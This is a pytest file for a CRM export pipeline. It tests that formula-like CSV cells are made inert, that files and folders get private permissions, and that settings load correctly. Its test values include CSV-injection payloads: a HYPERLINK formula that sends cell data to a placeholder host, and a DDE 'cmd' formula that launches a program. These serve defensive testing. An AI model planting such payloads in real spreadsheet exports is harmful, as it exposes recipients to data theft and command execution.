"""CRM files are safe to open in a spreadsheet and private: formula-like text cells are made
inert (OWASP), and files with personal data are 0600 in 0700 folders (0640 / 0750 on request)."""

from __future__ import annotations

import csv
import datetime as dt
import json
import stat
from pathlib import Path

import duckdb
import pytest

from retention_pipeline.activation import csv_cells, exports
from retention_pipeline.activation.daily import run_day
from retention_pipeline.files import make_private, private_file_mode, private_mkdir
from retention_pipeline.ingestion import discover_landing, ingest_entity
from retention_pipeline.settings import Settings
from retention_pipeline.warehouse import connect
from tests.support.activation_fixtures import Shop
from tests.support.pipeline import write_csv

AS_OF = dt.date(2026, 3, 10)
FORMULA_NAME = '=HYPERLINK("http://x"&A1,"click")'


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA_NAME, "'" + FORMULA_NAME),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna", "Anna"),
        ("+49 30 1234-567", "+49 30 1234-567"),  # a phone number stays dialable
        ("-12.50", "-12.50"),  # a plain (negative) number cannot call anything
        ("a=b", "a=b"),
        (None, None),
    ],
)
def test_formula_like_text_cells_are_made_inert(value, expected):
    assert csv_cells.inert_text(value) == expected


def _shop(folder: Path) -> Shop:
    folder.mkdir(parents=True, exist_ok=True)
    shop = Shop(folder)
    shop.customer("newbie", first_name=FORMULA_NAME)
    shop.order("newbie", AS_OF - dt.timedelta(days=1), order_id="n1")
    shop.customer("@c2", first_name="-Minus")
    shop.order("@c2", AS_OF - dt.timedelta(days=1), order_id="n2")
    shop.segment("@c2", rfm="Champions", tier="Gold")
    shop.derive()
    shop.close()
    return shop


def test_a_formula_name_from_the_landing_reaches_the_campaign_file_as_inert_text(tmp_path):
    # The raw layer keeps the name exactly as sent ...
    landing = tmp_path / "landing"
    write_csv(landing / "customers.csv", "customer_id,first_name",
              ['newbie,"=HYPERLINK(""http://x""&A1,""click"")"'])
    write_csv(landing / "orders.csv", "order_id,customer_id,ordered_at,total_amount", [])
    con = duckdb.connect()
    ingest_entity(con, discover_landing(landing), "customers", AS_OF)
    assert con.execute("select first_name from raw.customers").fetchone()[0] == FORMULA_NAME
    # ... and the campaign file neutralises it; the manifest says so.
    shop = _shop(tmp_path / "shop")
    day = run_day(shop.path, shop.settings(), AS_OF)
    thanks = {r["customer_id"]: r for r in _rows(day.export.folder / "campaigns" /
                                                 "first_purchase_thanks.csv")}
    assert thanks["newbie"]["first_name"] == "'" + FORMULA_NAME
    assert thanks["'@c2"]["first_name"] == "'-Minus"
    segment = _rows(day.export.folder / "segments" / "rfm_champions.csv")
    assert [r["customer_id"] for r in segment] == ["'@c2"]
    assert float(segment[0]["net_revenue"]) > 0  # numbers are not text: untouched
    manifest = json.loads((day.export.folder / "manifest.json").read_text())
    assert manifest["formulas_escaped"] is True
    assert exports.verify_manifest(day.export.folder) == []


def test_escaping_can_be_turned_off_and_the_manifest_says_so(tmp_path):
    shop = _shop(tmp_path)
    day = run_day(shop.path, shop.settings(export_escape_formulas=False), AS_OF)
    thanks = _rows(day.export.folder / "campaigns" / "first_purchase_thanks.csv")
    assert FORMULA_NAME in {r["first_name"] for r in thanks}
    assert json.loads((day.export.folder / "manifest.json").read_text())["formulas_escaped"] is False


@pytest.mark.parametrize(("group", "file_mode", "dir_mode"), [(False, 0o600, 0o700),
                                                             (True, 0o640, 0o750)])
def test_export_files_and_folders_are_private(tmp_path, group, file_mode, dir_mode):
    shop = _shop(tmp_path)
    settings = shop.settings(private_files_group_readable=group,
                             exports=tmp_path / "new" / "exports")
    day = run_day(shop.path, settings, AS_OF)
    files = [p for p in day.export.folder.rglob("*") if p.is_file()]
    folders = [day.export.folder, *[p for p in day.export.folder.rglob("*") if p.is_dir()]]
    assert len(files) > 3 and {_mode(p) for p in files} == {file_mode}
    assert {_mode(p) for p in folders} == {dir_mode}
    # folders the pipeline created on the way are private too
    assert _mode(tmp_path / "new" / "exports") == dir_mode
    assert _mode(tmp_path / "new") == dir_mode


def test_a_new_warehouse_and_its_new_folder_are_private(tmp_path):
    warehouse = tmp_path / "data" / "w.duckdb"
    with connect(warehouse) as con:
        con.execute("create table t as select 1 as x")
    assert _mode(warehouse) == 0o600
    assert _mode(warehouse.parent) == 0o700
    settings = Settings(private_files_group_readable=True, warehouse=tmp_path / "g" / "w.duckdb")
    with connect(settings.warehouse, settings=settings):
        pass
    assert (_mode(settings.warehouse), _mode(settings.warehouse.parent)) == (0o640, 0o750)


def test_file_helpers_for_other_writers(tmp_path):
    """The helpers the serving copies use: private_mkdir only sets folders it creates."""
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o755)
    mine.chmod(0o755)
    folder = private_mkdir(mine / "a" / "b")
    assert (_mode(mine), _mode(mine / "a"), _mode(folder)) == (0o755, 0o700, 0o700)
    copy = folder / "serving.duckdb"
    copy.write_bytes(b"x")
    make_private(copy)
    assert _mode(copy) == private_file_mode() == 0o600


def test_the_new_settings_come_from_env_and_toml(tmp_path, monkeypatch):
    from retention_pipeline.settings import load_settings

    monkeypatch.setenv("RETENTION_EXPORT_ESCAPE_FORMULAS", "false")
    config = tmp_path / "retention.toml"
    config.write_text("[retention]\nprivate_files_group_readable = true\n")
    settings = load_settings(config=config)
    assert settings.export_escape_formulas is False
    assert settings.private_files_group_readable is True
    assert private_file_mode(settings) == 0o640
